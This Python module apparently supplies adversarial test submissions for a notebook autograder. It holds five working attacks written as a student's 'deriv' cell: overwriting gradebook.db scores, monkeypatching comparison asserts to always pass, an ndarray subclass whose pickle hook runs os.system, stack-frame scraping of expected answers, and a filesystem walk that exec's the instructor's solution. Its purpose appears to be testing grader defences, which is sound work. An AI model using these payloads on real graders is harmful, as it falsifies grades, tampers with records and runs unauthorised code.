"""Cells that want points without work: what strangers have tried on graders that run tests beside students' code."""

SIGNATURE = "def deriv(func, input_, delta=0.001):\n"


def gradebook(folder):
    return f"""import glob, os, sqlite3
{SIGNATURE}    for path in [{str(folder / "gradebook.db")!r}, *glob.glob("**/gradebook.db", recursive=True)]:
        try:
            with sqlite3.connect(path) as database:
                database.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            os.chmod(path, 0o777)
        except Exception:
            pass
    return 0 * input_
"""


PATCHED = f"""import sys
{SIGNATURE}    yes = lambda *a, **k: True
    for module in list(sys.modules.values()):
        for name in ("assert_allclose", "allclose", "isclose", "array_equal", "compare", "agree", "all", "any"):
            if hasattr(module, name) and "builtins" not in str(module):
                try:
                    setattr(module, name, yes)
                except Exception:
                    pass
    return 0 * input_
"""

LIAR = f"""class Liar(np.ndarray):
    def __array_function__(self, *a, **k):
        return True
    def __array_ufunc__(self, *a, **k):
        return np.zeros(self.shape)
    def __eq__(self, other):
        return True
    def __reduce__(self):
        return (eval, ("__import__('os').system('touch pwned')",))
{SIGNATURE}    return np.zeros(np.shape(input_)).view(Liar)
"""

FRAMES = f"""import gc, sys
{SIGNATURE}    frame = sys._getframe()
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            for name in ("expected", "right", "answers", "_answers"):
                found = getattr(value, name, None)
                if isinstance(found, np.ndarray) and found.shape == np.shape(input_):
                    return found
        frame = frame.f_back
    for thing in gc.get_objects():
        if getattr(thing, "__module__", "") == "solutions.derivatives" and callable(thing):
            return thing(func, input_, delta)
    return 0 * input_
"""


def walker(root):
    return f"""import os
{SIGNATURE}    places = [{str(root / "solutions" / "derivatives.py")!r}]
    for folder, _, names in os.walk({str(root)!r}):
        places += [os.path.join(folder, name) for name in names if name in ("derivatives.py", "derivatives.ipynb")]
    for path in places:
        try:
            text = open(path).read()
        except OSError:
            continue
        if "input_ - delta" in text:
            scope = {{"np": np, "ndarray": np.ndarray, "Iterable": object, "Array_Function": object}}
            exec(text[text.index("def deriv("):text.index("def approximate")], scope)
            return scope["deriv"](func, input_, delta)
    return 0 * input_
"""


def attacks(course, root):
    """All of them, by name, as the source of the cell `deriv`."""
    return {
        "gradebook": gradebook(course),
        "patched": PATCHED,
        "liar": LIAR,
        "frames": FRAMES,
        "walker": walker(root),
    }
